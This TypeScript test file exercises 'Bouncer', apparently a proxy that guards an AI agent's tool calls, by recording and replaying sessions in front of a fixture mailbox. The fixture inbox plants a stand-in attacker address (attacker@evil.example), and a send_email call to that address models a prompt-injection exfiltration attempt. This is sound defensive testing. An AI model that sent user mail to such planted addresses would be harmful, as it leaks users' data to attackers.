/**
 * Calls the live proxy blocked for a reason the session file would not otherwise show replay as
 * blocked, with nothing applied that live did not apply (README "bouncer replay": stricter, never
 * laxer; SPEC §3.5, §3.6, §5.9). Each test records a real session — `bouncer run --record` over
 * real stdio in front of the fixture mailbox, driven line by line — then runs `bouncer replay --json`.
 */

import { describe, expect, test } from "bun:test";
import { mkdirSync, readdirSync, readFileSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import {
  BUN,
  bouncerCommand,
  initializeRequest,
  type LineSession,
  startLines,
  tempHome,
} from "./support/harness.ts";
import { MAILBOX, replayJson } from "./support/record-mailbox.ts";

const E2E_TIMEOUT = 120_000;
const POLICY = `
send_email:
  exfiltrating: true
  sink_params: [to]
  trusted_destinations: [boss@corp.example]
`;
/** The address the fixture's `read_inbox` plants in its output. */
const PLANTED = "attacker@evil.example";

/**
 * A `tools/call` request line.
 * @param id - The request id.
 * @param name - The tool.
 * @param args - Its arguments.
 * @returns The message.
 */
function call(id: number, name: string, args: Record<string, unknown>): unknown {
  return { jsonrpc: "2.0", id, method: "tools/call", params: { name, arguments: args } };
}

/**
 * Whether an answer is Bouncer's blocked result.
 * @param answer - The client's answer line.
 * @returns True when blocked.
 */
function isBlocked(answer: Record<string, unknown>): boolean {
  return JSON.stringify(answer.result).includes("[bouncer blocked]");
}

/**
 * Starts `bouncer run --record` before the mailbox fixture in a fresh home, past the handshake.
 * @param flags - More `run` flags.
 * @param capabilities - The client's capabilities.
 * @returns The home, policy and session file paths, and the live session.
 */
async function recordedMailbox(
  flags: readonly string[] = [],
  capabilities: Record<string, unknown> = {},
): Promise<{ home: string; policy: string; session: string; live: LineSession }> {
  const home = tempHome();
  const policy = join(home, "bouncer.yaml");
  const session = join(home, "session.jsonl");
  writeFileSync(policy, POLICY);
  const { command, args } = bouncerCommand("cli", [
    ...["--upstream-name", "mail", "--policy", policy, "--record", session, ...flags],
    ...["--", BUN, MAILBOX],
  ]);
  const live = startLines(command, args, { BOUNCER_HOME: home });
  live.send(initializeRequest(0, capabilities));
  await live.next((m) => m.id === 0, "initialize answered");
  live.send({ jsonrpc: "2.0", method: "notifications/initialized" });
  return { home, policy, session, live };
}

describe("bouncer run --record then bouncer replay (calls blocked live)", () => {
  test(
    "bouncer replay blocks an approval that was stale when it came, and remembers nothing of it",
    async () => {
      const { home, policy, session, live } = await recordedMailbox(["--human-min-ms", "0"], {
        elicitation: {},
      });
      const mail = { to: PLANTED, subject: "Invoice", body: "Attached." };
      live.send(call(1, "send_email", mail));
      const question = await live.next((m) => m.method === "elicitation/create", "the question");
      // While the question is open, the inbox plants the very address asked about.
      live.send(call(2, "read_inbox", {}));
      expect(JSON.stringify(await live.next((m) => m.id === 2, "read_inbox answered"))).toContain(PLANTED);
      live.send({
        jsonrpc: "2.0",
        id: question.id,
        result: { action: "accept", content: { remember: true } },
      });
      const first = await live.next((m) => m.id === 1 && m.method === undefined, "send 1 answered");
      live.send(call(3, "send_email", mail));
      const again = await live.next((m) => m.id === 3 && m.method === undefined, "send 3 answered");
      live.child.stdin?.end();
      await live.exited;
      expect([isBlocked(first), isBlocked(again)]).toEqual([true, true]);

      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
      expect(replay.stderr).toBe("");
      expect(replay.rows.map((row) => [row.seq, row.tool, row.verdict, row.outcome])).toEqual([
        [1, "send_email", "ask", "blocked"],
        [2, "read_inbox", "allow", "forwarded"],
        [3, "send_email", "deny", "blocked"],
      ]);
      const stale = readFileSync(session, "utf8")
        .split("\n")
        .filter((line) => line.includes('"seq":1,'))
        .map((line) => JSON.parse(line) as Record<string, unknown>);
      expect(stale.map(({ ask, remember, live_blocked }) => [ask, remember, live_blocked])).toEqual([
        ["approved", false, "stale_ask"],
      ]);
      expect(replay.rows.map((row) => (row as { live_blocked?: string }).live_blocked)).toEqual([
        "stale_ask",
        undefined,
        undefined,
      ]);
    },
    E2E_TIMEOUT,
  );

  test(
    "bouncer replay blocks a call the live proxy blocked because the audit log could not be written",
    async () => {
      const { home, policy, session, live } = await recordedMailbox();
      live.send(call(1, "read_inbox", {}));
      expect(isBlocked(await live.next((m) => m.id === 1, "read_inbox answered"))).toBe(false);
      // The log is removed and a folder takes its name: the next record cannot be written (EISDIR).
      const log = join(home, "audit.jsonl");
      unlinkSync(log);
      mkdirSync(log);
      live.send(call(2, "send_email", { to: "boss@corp.example", subject: "Hi", body: "Hello." }));
      const blocked = await live.next((m) => m.id === 2, "send_email answered");
      live.child.stdin?.end();
      await live.exited;
      expect(JSON.stringify(blocked.result)).toContain("Bouncer blocks calls it cannot audit");

      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
      expect(replay.stderr).toBe("");
      expect(replay.rows.map((row) => [row.seq, row.tool, row.verdict, row.outcome])).toEqual([
        [1, "read_inbox", "allow", "forwarded"],
        [2, "send_email", "allow", "blocked"],
      ]);
      expect((replay.rows[1] as { live_blocked?: string }).live_blocked).toBe("audit_failed");
    },
    E2E_TIMEOUT,
  );

  test(
    "bouncer replay blocks a call the live proxy could not decide (the pin file unreadable), under its own seq",
    async () => {
      const { home, policy, session, live } = await recordedMailbox();
      live.send(call(1, "read_inbox", {}));
      expect(isBlocked(await live.next((m) => m.id === 1, "read_inbox answered"))).toBe(false);
      // No walk follows: the call reads the pins itself, and cannot.
      const pins = join(home, "pins");
      for (const name of readdirSync(pins)) writeFileSync(join(pins, name), "{ not a pin file");
      live.send(call(2, "read_inbox", {}));
      const blocked = await live.next((m) => m.id === 2, "read_inbox 2 answered");
      live.child.stdin?.end();
      await live.exited;
      expect(JSON.stringify(blocked.result)).toContain("Bouncer could not decide the call: Cannot read pins");

      const audited = readFileSync(join(home, "audit.jsonl"), "utf8")
        .split("\n")
        .filter((line) => line.includes('"event":"decision"'))
        .map((line) => JSON.parse(line) as { seq: number; verdict: string });
      expect(audited.map((record) => [record.seq, record.verdict])).toEqual([
        [1, "allow"],
        [2, "deny"],
      ]);
      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
      expect(replay.stderr).toBe("");
      expect(replay.rows.map((row) => [row.seq, row.tool, row.verdict, row.outcome])).toEqual([
        [1, "read_inbox", "allow", "forwarded"],
        [2, "read_inbox", "allow", "blocked"],
      ]);
      expect((replay.rows[1] as { live_blocked?: string }).live_blocked).toBe("gate_error");
    },
    E2E_TIMEOUT,
  );
});
